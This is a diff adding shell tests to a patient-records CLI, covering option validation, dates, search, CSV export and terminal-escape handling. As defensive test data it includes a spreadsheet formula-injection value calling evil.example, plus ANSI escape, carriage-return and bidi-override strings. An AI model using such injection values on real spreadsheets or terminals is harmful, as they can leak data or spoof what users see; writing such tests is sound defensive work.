@@ -131,4 +131,134 @@ run patient edit "$JOSE" --notes "x" --practitioner "Sam Okafor"
 run audit --limit 1 --format json
 json "--practitioner names who changed it" "d[0]['who'] == 'Sam Okafor'"
 
+# ---- issue 9: one source of truth ------------------------------------------
+RAW_SQL=${2:-}
+ESC=$'\033'
+
+# An option that is not repeatable, given twice, is a usage error naming it,
+# and nothing is written.
+rejected 64 "--name given twice" patient add --name A --name B
+expect_err "--name" "the message names the option"
+rejected 64 "--dob given twice" patient add --name A --dob 1990-01-01 --dob 1991-01-01
+expect_err "--dob"
+rejected 64 "edit --notes given twice" patient edit "$ZOE" --notes a --notes b
+expect_err "--notes"
+rejected 64 "list --format given twice" patient list --format csv --format json
+expect_err "--format"
+rejected 64 "show --today given twice" patient show "$ZOE" --today 2026-03-01 --today 2026-03-02
+expect_err "--today"
+rejected 64 "--practitioner given twice" patient archive "$ZOE" --practitioner A --practitioner B
+expect_err "--practitioner"
+run patient add --name "Two Flags" --flag keloid --flag anticoagulant
+expect_id "--flag is repeatable"
+run patient show "$ID" --format json
+json "both flags kept" "sorted(f['code'] for f in d['flags']) == ['anticoagulant', 'keloid']"
+
+# Ids are strict: no blanks, signs, hex or leading zeros.
+for bad in " $ZOE" "+$ZOE" "-0" "0x1" "0$ZOE" "$ZOE "; do
+	rejected 64 "patient show '$bad' is not an id" patient show "$bad"
+done
+
+# Text options: valid UTF-8, no control characters, a length limit; the
+# message quotes the value sanitized and clipped.
+rejected 65 "a name with an escape" patient add --name "Evil${ESC}[31mRed"
+expect_err '\x1b' "the escape is shown, not sent"
+check "no raw escape on stderr" test "$(printf '%s' "$ERR" | grep -c "$ESC")" = 0
+rejected 65 "a name that is not UTF-8" patient add --name $'Ana \xff'
+expect_err "UTF-8"
+rejected 65 "a carriage return in a phone" patient add --name X --phone $'123\r456'
+rejected 65 "a bidi override in a name" patient add --name $'Ana \u202e evil'
+rejected 65 "--search that is not UTF-8" patient list --search $'\xff'
+BIG=$(head -c 131000 /dev/zero | tr '\0' 'a')
+rejected 65 "a 131,000-byte note" patient add --name X --notes "$BIG"
+check "the message is short, not the value echoed" test "${#ERR}" -lt 400
+rejected 65 "a 131,000-byte search" patient list --search "$BIG"
+check "the search message is short" test "${#ERR}" -lt 400
+rejected 65 "a 131,000-byte name in edit" patient edit "$ZOE" --name "$BIG"
+check "the edit message is short" test "${#ERR}" -lt 400
+
+# Impossible dates are refused with 65 (DOMAIN.md); today is 2026-03-01.
+rejected 65 "a date of birth in the future" patient add --name X --dob 2030-01-01
+expect_err "dob" "the message names the field"
+expect_err "2030-01-01" "... and the value"
+rejected 65 "consent before birth" patient add --name X --dob 1990-05-05 --consent 1980-01-01
+expect_err "consent"
+rejected 65 "consent in the future" patient add --name X --consent 2026-03-02
+rejected 65 "a flag dated in the future" patient add --name X --flag isotretinoin:2026-04-01
+rejected 65 "edit: consent before the date of birth on file" patient edit "$ZOE" --consent 1970-01-01
+run patient add --name X --dob 2026-03-01 --consent 2026-03-01
+expect_id "born today, consent today: both allowed"
+# A date of birth after one of the patient's sessions cannot be true.
+run patient add --name "Dee Obi" --dob 1990-01-01
+expect_id "a patient for the session dates"
+DEE=$ID
+run series add --patient "$DEE" --indication acne-scars --planned 2 --interval-days 28 \
+	--area cheek-l --start 2026-01-05
+SER=$OUT
+run session add --series "$SER" --date 2026-01-05 --area cheek-l:1.5
+expect_rc 0 "a session on 2026-01-05"
+rejected 65 "edit --dob after the patient's session" patient edit "$DEE" --dob 2026-02-01
+expect_err "--dob: 2026-02-01 is after a session (2026-01-05)" "the message names both dates"
+run patient edit "$DEE" --dob 2026-01-05
+expect_rc 0 "a date of birth on the day of the first session is possible"
+
+# The isotretinoin rule has one answer (check_flag_in_force): six months
+# from the last dose, in force through that day and not after, on the day
+# --today gives.
+run patient add --name "Iso Tretinoin" --flag isotretinoin:2025-09-01
+expect_id "a patient with isotretinoin six months ago"
+ISO=$ID
+run patient show "$ISO" --today 2026-03-01
+expect_out "in force until 2026-03-01" "in force on the last day of the window"
+expect_out "1 contraindication in force" "... and counted as a warning"
+run patient show "$ISO" --today 2026-03-02
+expect_out "no longer in force" "not in force the day after"
+expect_no_out "contraindication in force" "... and no longer a warning"
+run patient show "$ISO" --today 2026-03-02 --format json
+json "json agrees: not in force the day after" "not d['flags'][0]['in_force'] and not any(w.get('flag') == 'isotretinoin' for w in d['warnings'])"
+NEEDLELOG_TODAY=2026-03-02 run patient show "$ISO" --format json
+json "\$NEEDLELOG_TODAY is the same day as --today" "not d['flags'][0]['in_force']"
+
+# Accent-insensitive search over any Latin letter (utf8proc in the core).
+run patient add --name "Yéwándé Adébáyọ̀-Sánchez"
+expect_id "a name with a dot below and combining marks"
+run patient list --search adebayo --format json
+json "--search adebayo finds Adébáyọ̀" "[p['name'] for p in d] == ['Yéwándé Adébáyọ̀-Sánchez']"
+run patient list --search "SANCHEZ" --format json
+json "--search ignores case and accents" "len(d) == 1"
+
+# CSV: formula leaders guarded, ';' quoted, no BOM unless --bom.
+for name in '=HYPERLINK("http://evil.example/?x")' '-2+3' '@Dr Evil' '+1 Evil' 'ok;=1+1'; do
+	run patient add --name "$name"
+	expect_id "a patient named '$name'"
+done
+run patient list --format csv
+csvrows "=, -, @ and + leaders are guarded with a quote" \
+	"{row[1] for row in r} >= {\"'=HYPERLINK(\\\"http://evil.example/?x\\\")\", \"'-2+3\", \"'@Dr Evil\", \"'+1 Evil\"}"
+expect_out '"ok;=1+1"' "a field with ';' is quoted"
+check "no byte order mark without --bom" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" != efbbbf
+run patient list --format csv --bom
+check "--bom starts the CSV with a byte order mark" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" = efbbbf
+rejected 64 "--bom given twice" patient list --format csv --bom --bom
+
+# Values stored behind the core's back (an older version, or another tool)
+# are shown visibly escaped, never sent to the terminal.
+if [ -n "$RAW_SQL" ] && [ -x "$RAW_SQL" ]; then
+	"$RAW_SQL" "$NEEDLELOG_DB" "UPDATE patient SET name = 'Evil' || char(27) || '[2J' || char(13) || 'Over' || char(8238) || 'rtl', notes = 'line' || char(27) || ']0;title' || char(7), phone = '1' || char(13) || '2' WHERE id = $JOSE"
+	check "raw_sql stored the values" test $? = 0
+	run patient show "$JOSE"
+	expect_rc 0 "show a patient with stored escapes"
+	expect_out 'Evil\x1b[2J\rOver\u{202e}rtl' "the name's ESC, CR and bidi override are shown escaped"
+	expect_out 'line\x1b]0;title\x07' "the notes' escapes are shown"
+	expect_out '1\r2' "the phone's carriage return is shown"
+	check "show sends no ESC, CR or bidi control" test "$(printf '%s' "$OUT" | grep -c $'\033\\|\r\\|\u202e')" = 0
+	run patient list
+	expect_out 'Evil\x1b[2J\rOver\u{202e}rtl' "list shows them escaped too"
+	check "list sends no ESC, CR or bidi control" test "$(printf '%s' "$OUT" | grep -c $'\033\\|\r\\|\u202e')" = 0
+	run patient list --format csv
+	check "CSV carries no raw ESC" test "$(printf '%s' "$OUT" | grep -c $'\033')" = 0
+else
+	not_ok "raw_sql helper given as \$2" "tests/cli/meson.build passes it"
+fi
+
 finish
